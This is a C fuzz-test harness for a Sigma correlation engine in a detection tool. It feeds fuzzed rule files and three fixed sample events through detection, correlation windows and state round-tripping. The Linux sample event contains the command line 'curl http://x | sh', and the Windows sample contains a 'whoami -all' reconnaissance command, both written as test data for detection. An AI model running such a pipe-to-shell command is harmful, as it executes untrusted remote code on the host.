/* tests/fuzz/fuzz_correlation.c — Sigma correlation documents (detect/correlate.h) come from
 * the same untrusted rule files as rules: load the input with correlations on, resolve them,
 * run the result over a few fixed events at several times (windows, chains, consumption),
 * round-trip every correlation's state, and decode the input itself as a state. Must never
 * crash, hang or leak; a state the engine wrote must decode; problems carry a message. */
#include "core/arena.h"
#include "core/event.h"
#include "core/json.h"
#include "detect/correlate.h"
#include "detect/detect.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#define INPUT_BYTES_MAX (64 * 1024)

static const char sysmon1[] =
    "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"ws1\"},"
    "\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c whoami -all\","
    "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"bob\",\"ProcessId\":\"4242\"}}}";
static const char security[] =
    "{\"Event\":{\"System\":{\"Channel\":\"Security\",\"EventID\":4625,\"Computer\":\"dc1\"},"
    "\"EventData\":{\"User\":\"bob\",\"IpAddress\":\"10.1.2.3\",\"LogonType\":\"3\"}}}";
static const char ecs_linux[] =
    "{\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},\"host\":{\"os\":{\"type\":\"linux\"}},"
    "\"process\":{\"executable\":\"/usr/bin/curl\",\"command_line\":\"curl http://x | sh\"},\"user\":{\"name\":\"root\"}}";
static const char *const events[] = {sysmon1, security, ecs_linux};

static void on_alert(void *ctx, const correlate_alert *a)
{
    buf *out = ctx;
    if (!a->event_count || a->first_us > a->last_us) abort();
    buf_clear(out);
    correlate_alert_write_json(out, a);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static json_parser *parser;
    static normalizer *norm;
    if (!parser) {
        parser = json_parser_create();
        norm = normalizer_create();
    }
    if (size > INPUT_BYTES_MAX) return 0;
    detect_options opt;
    detect_options_default(&opt);
    opt.compile_threads = 1;
    opt.rules_max = 64;
    opt.values_per_item_max = 512;
    opt.correlations = true;
    detect_loader *loader = detect_loader_create(&opt);
    detect_loader_add_text(loader, "fuzz.yml", (const char *)data, size);
    detect_ruleset *rs = NULL;
    char err[256];
    if (detect_loader_build(loader, &rs, err, sizeof err) != 0) {
        detect_loader_destroy(loader);
        return 0;
    }
    correlate_set *set = NULL;
    if (correlate_set_build(loader, rs, &set) != 0) abort();
    const detect_report *r = detect_loader_report(loader);
    for (size_t i = 0; i < r->problem_count; i++)
        if (!r->problems[i].message || !r->problems[i].message[0] || r->problems[i].reason >= DETECT_REASON_COUNT)
            abort();
    if (r->correlations != correlate_set_count(set)) abort();
    correlate_options copt;
    correlate_options_default(&copt);
    copt.keys_max = 4;
    copt.events_per_key_max = 8;
    copt.lateness_us = 5 * 1000000LL;
    correlate_engine *eng = correlate_engine_create(set, &copt);
    detect_worker *w = detect_worker_create();
    buf out;
    buf_init(&out);
    if (detect_worker_bind(w, rs) == 0) {
        arena a;
        arena_init(&a, 16 * 1024);
        event_stamp stamp = {.tenant = "fuzz", .agent_id = "a", .agent_hash = 1, .seq = 1,
                             .received_us = 1714566896000000LL};
        /* times jump forward and back: in order, out of order within and beyond the allowance */
        static const int64_t offsets_s[] = {0, 1, 2, 30, 29, 3, 400, 100000};
        for (size_t t = 0; t < sizeof offsets_s / sizeof offsets_s[0]; t++) {
            for (size_t e = 0; e < sizeof events / sizeof events[0]; e++) {
                json_value v;
                json_error jerr;
                mamori_event ev;
                char why[128];
                if (json_parse(parser, &a, events[e], strlen(events[e]), &v, &jerr) != 0) abort();
                if (normalize_event(norm, &a, EVENT_FORMAT_AUTO, &v, &stamp, (uint32_t)e, &ev, why, sizeof why) != 0)
                    abort();
                const detect_match *m;
                size_t n = detect_eval(w, &ev, &m);
                for (size_t i = 0; i < n; i++)
                    correlate_engine_feed_event(eng, m[i].rule, &ev, stamp.received_us + offsets_s[t] * 1000000LL,
                                                e == 0 ? "e0" : e == 1 ? "e1" : "e2", on_alert, &out);
                arena_reset(&a);
            }
        }
        arena_fini(&a);
    }
    for (size_t c = 0; c < correlate_set_count(set); c++) {
        buf_clear(&out);
        correlate_state_encode(eng, c, &out);
        if (correlate_state_decode(eng, c, out.data, out.len) != 0) abort();
        if (correlate_state_decode(eng, c, data, size) == 0) { /* a valid state by chance: fine */
        }
    }
    /* the same bytes as a match on the wire (mamori.matches): rejected, or fed like any match */
    correlate_match *wm = NULL;
    if (correlate_match_decode(set, data, size, &wm) == 0) {
        correlate_engine_feed(eng, wm, NULL, NULL);
        correlate_match_destroy(wm);
    }
    buf_fini(&out);
    detect_worker_destroy(w);
    correlate_engine_destroy(eng);
    correlate_set_destroy(set);
    detect_ruleset_unref(rs);
    detect_loader_destroy(loader);
    return 0;
}
